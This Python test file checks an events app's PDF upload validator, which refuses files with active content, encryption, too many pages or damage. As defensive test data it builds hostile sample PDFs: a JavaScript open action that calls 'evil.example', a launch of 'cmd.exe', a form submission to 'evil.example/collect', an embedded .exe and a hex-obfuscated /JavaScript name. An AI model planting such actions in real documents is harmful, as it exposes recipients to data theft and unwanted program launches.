"""Uploaded PDFs with active content, encryption or absurd lengths are refused with a reason; plain
ones, links included, pass. The files are made here with pypdf, as an attacker would."""
from __future__ import annotations

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from eventsapp.pdfcheck import PdfProblem, check_uploaded_pdf
from tests.factories import document_javascript, make_pdf, pdf_action


def open_action(kind: str, **entries):
    def build(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(pdf_action(kind, **entries))
    return build


def page_actions(writer: PdfWriter) -> None:  # "additional actions": run when the page opens
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): pdf_action("/URI", URI=TextStringObject("https://example.com"))})


def link_annotation(writer: PdfWriter) -> None:  # a link in a résumé: fine
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(20)]),
        NameObject("/A"): pdf_action("/URI", URI=TextStringObject("https://www.linkedin.com/in/li-ming"))})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def go_to_first_page(writer: PdfWriter) -> None:  # open at page 1, fit: a destination, not an action
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference,
                                                                  NameObject("/Fit")])


@pytest.mark.parametrize("build", [None, link_annotation, go_to_first_page])
def test_plain_pdfs_pass_and_their_pages_are_counted(build):
    assert check_uploaded_pdf(make_pdf(pages=2, build=build), max_pages=50) == 2


@pytest.mark.parametrize(("build", "named"), [
    (document_javascript, "JavaScript"),
    (open_action("/JavaScript", JS=TextStringObject("app.launchURL('https://evil.example')")), "JavaScript"),
    (open_action("/Launch", F=TextStringObject("cmd.exe")), "a program to start"),
    (lambda writer: writer.add_attachment("invoice.exe", b"MZ not really a program"), "embedded files"),
    (page_actions, "actions that run by themselves"),
    (open_action("/SubmitForm", F=TextStringObject("https://evil.example/collect")), "actions that run by themselves"),
])
def test_active_content_is_refused_and_named(build, named):
    with pytest.raises(PdfProblem) as refused:
        check_uploaded_pdf(make_pdf(build=build), max_pages=50)
    assert "active content" in refused.value.message and named in str(refused.value.message)


def test_active_content_hidden_in_a_hex_name_is_found():
    plain = make_pdf(build=document_javascript)
    assert plain.count(b"/JavaScript") == 2
    data = plain.replace(b"/JavaScript", b"/J#61vaScript")
    with pytest.raises(PdfProblem) as refused:
        check_uploaded_pdf(data, max_pages=50)
    assert "JavaScript" in str(refused.value.message)


def test_too_many_pages_are_refused():
    assert check_uploaded_pdf(make_pdf(pages=3), max_pages=3) == 3
    with pytest.raises(PdfProblem) as refused:
        check_uploaded_pdf(make_pdf(pages=4), max_pages=3)
    assert "4 pages; at most 3 are accepted" in str(refused.value.message)


# The check reads only whether the file has an /Encrypt entry, never decrypts: the same for any algorithm
# (AES included, which pypdf could not even read here without the cryptography package).
@pytest.mark.parametrize("password", ["secret", ""])  # "": opens without a password, and is still refused
def test_an_encrypted_pdf_is_reported_as_password_protected(password):
    def encrypt(writer: PdfWriter) -> None:
        writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
    data = make_pdf(build=encrypt)
    with pytest.raises(PdfProblem) as refused:
        check_uploaded_pdf(data, max_pages=50)
    assert "protected with a password" in str(refused.value.message)


def test_a_damaged_pdf_is_reported_as_damaged():
    with pytest.raises(PdfProblem) as refused:
        check_uploaded_pdf(b"%PDF-1.7\nnot a pdf at all\n%%EOF\n", max_pages=50)
    assert "incomplete or damaged" in str(refused.value.message)
